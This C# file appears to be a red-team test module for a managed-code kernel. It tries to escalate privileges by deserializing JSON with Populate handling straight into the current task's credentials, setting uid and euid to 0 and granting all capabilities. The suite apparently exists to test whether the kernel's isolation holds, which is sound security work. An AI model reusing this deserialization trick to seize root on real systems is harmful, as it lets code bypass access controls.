using System.Text.Json;
using System.Text.Json.Serialization;
using Kernel;

namespace OutsideRedTeam.ReflectionDeputies;

[Attack("System.Text.Json with JsonObjectCreationHandling.Populate fills the current task's live Credentials object from JSON", Expect.Either)]
public sealed unsafe class JsonPopulateCredentials : IKernelModule
{
    public string Name => "JsonPopulateCredentials";

    public void Init(KernelApi kernel)
    {
        Holder.Target = kernel.CurrentTask.Cred;
        JsonSerializer.Deserialize<Holder>("{\"Cred\":{\"Uid\":0,\"Euid\":0,\"Capabilities\":18446744073709551615}}",
            new JsonSerializerOptions { IncludeFields = true });
    }

    public void Exit() { }
}

public sealed class Holder
{
    public static Credentials Target;

    [JsonObjectCreationHandling(JsonObjectCreationHandling.Populate)]
    public Credentials Cred { get; } = Target;
}